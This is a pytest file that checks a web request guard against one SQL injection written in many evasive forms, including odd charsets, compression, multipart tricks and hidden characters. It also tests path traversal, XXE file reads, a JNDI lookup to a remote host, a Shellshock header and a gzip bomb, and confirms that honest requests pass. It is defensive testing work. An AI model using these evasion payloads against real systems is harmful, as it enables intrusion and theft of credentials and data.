"""Attacks past the guard's detectors: one attack, written in all the ways that a service may read and a guard not."""

from __future__ import annotations

import base64
import gzip
import json
import zlib
from urllib.parse import quote

import pytest

from shipworthy.guard.runtime.core import Guard
from shipworthy.guard.runtime.policy import Policy, Request

ATTACK = "1' OR '1'='1' UNION SELECT name, password FROM users --"
JSON = json.dumps({"text": ATTACK})
ESCAPED = '{"text":"' + "".join(f"\\u{ord(one):04x}" for one in ATTACK) + '"}'
FORM = b"text=1%27+OR+%271%27%3D%271%27+UNION+SELECT+a,b+FROM+users--"
MULTIPART = "multipart/form-data; boundary=b"
UTF_7 = "+" + base64.b64encode(JSON.encode("utf-16-be")).decode().rstrip("=") + "-"


def posted(body: bytes | str, kind: str = "application/json", *more: tuple[str, str]) -> Request:
    data = body.encode() if isinstance(body, str) else body
    return Request("POST", "/predict", (("content-type", kind), *more), data, "192.0.2.1")


def asked(target: str, *headers: tuple[str, str]) -> Request:
    return Request("GET", target, headers, b"", "192.0.2.1")


def part(content: str, head: str = 'Content-Disposition: form-data; name="t"', kind: str = "boundary=b") -> Request:
    return posted(f"--b\r\n{head}\r\n\r\n{content}\r\n--b--\r\n", f"multipart/form-data; {kind}")


def packed(coding: str, body: bytes) -> Request:
    return posted(body, "application/json", ("content-encoding", coding))


WRITTEN = {
    "JSON": posted(JSON),
    "JSON in UTF-16": posted(JSON.encode("utf-16"), "application/json; charset=utf-16"),
    "JSON in UTF-16 without a mark": posted(JSON.encode("utf-16-le"), "application/json; charset=utf-16le"),
    "JSON in UTF-32": posted(JSON.encode("utf-32"), "application/json"),
    "JSON in UTF-7": posted(JSON.encode("utf-7"), "application/json; charset=utf-7"),
    "JSON whole in UTF-7": posted(UTF_7, "application/json; charset=utf-7"),
    "a quote of UTF-7 in JSON": posted('{"text": "1+ACc- OR +ACc-1+ACc-=+ACc-1"}', "application/json; charset=utf-7"),
    "JSON in EBCDIC": posted(JSON.encode("cp037"), "application/json; charset=ibm037"),
    "JSON with a mark": posted(b"\xef\xbb\xbf" + JSON.encode()),
    "the second of two members": posted('{"text": "hi", "text": ' + json.dumps(ATTACK) + "}"),
    "the first of two members": posted('{"text": ' + json.dumps(ATTACK) + ', "text": "hi"}'),
    "a key": posted(json.dumps({ATTACK: 1})),
    "escapes": posted(ESCAPED),
    "beside NaN": posted('{"a": NaN, "text": ' + json.dumps(ATTACK) + "}"),
    "with half of a character": posted('{"text": "\\ud800 ' + ATTACK + '"}'),
    "wide letters": posted(json.dumps({"text": "1\uff07 OR \uff071\uff07\uff1d\uff071\uff07 UNION SELECT 1 --"})),
    "letters of no width": posted(json.dumps({"text": "1' U\u200bNI\u200bON SEL\u200bECT name FR\u200bOM users --"})),
    "lines of JSON": posted('{"a": 1}\n' + JSON, "application/x-ndjson"),
    "JSON with comments": posted(f'/*x*/{{text: "{ATTACK}"}}'),
    "JSON without a type": Request("POST", "/", (), JSON.encode(), "192.0.2.1"),
    "JSON under another type": posted(JSON, "text/plain"),
    "two types": posted(JSON, "text/plain", ("content-type", "application/json")),
    "a form under two types": posted(FORM, "application/json", ("content-type", "application/x-www-form-urlencoded")),
    "deep JSON": posted("[" * 100_000 + "]" * 100_000),
    "gzip": packed("gzip", gzip.compress(JSON.encode())),
    "gzip in gzip": packed("gzip, gzip", gzip.compress(gzip.compress(JSON.encode()))),
    "gzip that is not told": posted(gzip.compress(JSON.encode())),
    "a gzip bomb": packed("gzip", gzip.compress(b" " * (64 << 20))),
    "gzip with something behind it": packed("gzip", gzip.compress(b"{}") + JSON.encode()),
    "deflate": packed("deflate", zlib.compress(JSON.encode())),
    "brotli": packed("br", b"\x0b\x02\x80hello\x03"),
    "a form": posted(FORM, "application/x-www-form-urlencoded"),
    "a form in EBCDIC": posted(b"x=" + ATTACK.encode("cp037"), "application/x-www-form-urlencoded; charset=ibm037"),
    "text in UTF-16": posted(ATTACK.encode("utf-16"), "text/plain; charset=utf-16"),
    "text in EBCDIC": posted(ATTACK.encode("cp037"), 'text/plain; charset="ibm037"'),
    "text in UTF-7": posted(UTF_7, "text/plain; Charset=UTF-7"),
    "a part": part(ATTACK),
    "a part in base64": part(
        base64.b64encode(ATTACK.encode()).decode(),
        'Content-Disposition: form-data; name="t"\r\nContent-Transfer-Encoding: base64',
    ),
    "a part, quoted and printable": part(
        "".join(f"={ord(one):02X}" for one in ATTACK),
        'Content-Disposition: form-data; name="t"\r\nContent-Transfer-Encoding: Quoted-Printable',
    ),
    "a part in EBCDIC": posted(
        b'--b\r\nContent-Disposition: form-data; name="t"\r\nContent-Type: text/plain; charset=ibm037\r\n\r\n'
        + ATTACK.encode("cp037") + b"\r\n--b--\r\n", MULTIPART,
    ),
    "a part of escaped JSON": part(
        ESCAPED, 'Content-Disposition: form-data; name="t"\r\nContent-Type: application/json'
    ),
    "two boundaries": posted(
        f"--b\r\nContent-Disposition: form-data; name=t\r\n\r\n{ATTACK}\r\n--b--\r\n--c\r\n\r\nhi\r\n--c--",
        "multipart/form-data; boundary=c; boundary=b",
    ),
    "a boundary of another name": posted(
        f"--b\r\nContent-Disposition: form-data; name=t\r\n\r\n{ATTACK}\r\n--b--\r\n--c\r\n\r\nhi\r\n--c--",
        "multipart/form-data; xboundary=c; boundary=b",
    ),
    "a boundary with a space": posted(
        f"--b d\r\nContent-Disposition: form-data; name=t\r\n\r\n{ATTACK}\r\n--b d--\r\n",
        'multipart/form-data; boundary="b d"',
    ),
    "before the parts": posted(
        f"{ATTACK}\r\n--b\r\nContent-Disposition: form-data; name=t\r\n\r\nhi\r\n--b--", MULTIPART
    ),
    "behind the parts": posted(
        f"--b\r\nContent-Disposition: form-data; name=t\r\n\r\nhi\r\n--b--\r\n{ATTACK}", MULTIPART
    ),
    "parts with line feeds": posted(
        f"--b\nContent-Disposition: form-data; name=t\n\n{ATTACK}\n--b--\n", MULTIPART
    ),
    "a part without a head": posted(f"--b\r\n{ATTACK}\r\n--b--\r\n", MULTIPART),
    "a file name": part("hi", 'Content-Disposition: form-data; name="t"; filename="../../../../etc/passwd"'),
    "a file name without quotes": part("hi", "Content-Disposition: form-data; name=t; filename=../../../../etc/passwd"),
    "a file name in single quotes": part("hi", "Content-Disposition: form-data; filename = '../../../../etc/passwd'"),
    "an encoded file name": part(
        "hi", "Content-Disposition: form-data; name=t; FileName*=UTF-8''..%2f..%2f..%2f..%2fetc%2fpasswd"
    ),
    "other parts": posted(
        f"--b\r\nContent-Type: application/json\r\n\r\n{JSON}\r\n--b--", "multipart/mixed; boundary=b"
    ),
    "XML": posted(f"<a><![CDATA[{ATTACK}]]></a>", "application/xml"),
    "an entity": posted("<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>", "application/xml"),
    "an entity in UTF-16": posted(
        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>".encode("utf-16"), "application/xml"
    ),
    "MessagePack": posted(b"\x81\xa4text\xd9" + bytes([len(ATTACK)]) + ATTACK.encode(), "application/msgpack"),
    "the query": asked(f"/?q={quote(ATTACK)}"),
    "the query, encoded twice": asked(f"/?q={quote(quote(ATTACK))}"),
    "the query, parted by semicolons": asked("/?a=1;q=1'+OR+'1'='1'+UNION+SELECT+a,b+FROM+users--"),
    "the path": asked("/../../../../etc/passwd"),
    "the path, too long": asked("/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    "the path with parameters": asked("/..;/..;/..;/etc/passwd"),
    "the path with backslashes": asked("/static/..%5c..%5c..%5cwindows/win.ini"),
    "a cookie": asked("/", ("cookie", f"a={ATTACK}")),
    "a lookup in any header": asked("/", ("x-any", "${jndi:ldap://192.0.2.1/a}")),
    "a function in any header": asked("/", ("accept", "() { :;}; /bin/cat /etc/passwd")),
}  # fmt: skip
HONEST = {
    "a file": part("%PDF-1.7 ...", 'Content-Disposition: form-data; name="f"; filename="Anne\'s report (2).pdf"'),
    "an encoded name": part("hi", "Content-Disposition: form-data; name=t; filename*=UTF-8''na%C3%AFve%20file.txt"),
    "no last line": posted('--b\r\nContent-Disposition: form-data; name="t"\r\n\r\nhi\r\n--b--', MULTIPART),
    "a boundary in quotes": part("hi", kind='charset=utf-8; boundary="b"'),
    "a part with its character set": part(
        "Grüße", 'Content-Disposition: form-data; name="t"\r\nContent-Type: text/plain; charset=UTF-8'
    ),
    "Latin-1": posted("Grüße".encode("latin-1"), "text/plain; charset=ISO-8859-1"),
    "UTF-16": posted("Grüße".encode("utf-16"), "text/plain; charset=utf-16"),
    "UTF-8": posted('{"text": "Grüße, it\'s fine"}', "application/json;charset=UTF-8"),
    "a template in a header": asked("/", ("x-trace", "cost $5 {a}")),
}


@pytest.fixture(scope="module")
def guard() -> Guard:
    return Guard(Policy())


@pytest.mark.parametrize("way", WRITTEN)
def test_however_it_is_written(guard: Guard, way: str) -> None:
    assert guard.judge(WRITTEN[way]).refused


@pytest.mark.parametrize("way", HONEST)
def test_honest_requests_of_the_same_forms_pass(guard: Guard, way: str) -> None:
    decision = guard.judge(HONEST[way])
    assert not decision.refused, decision
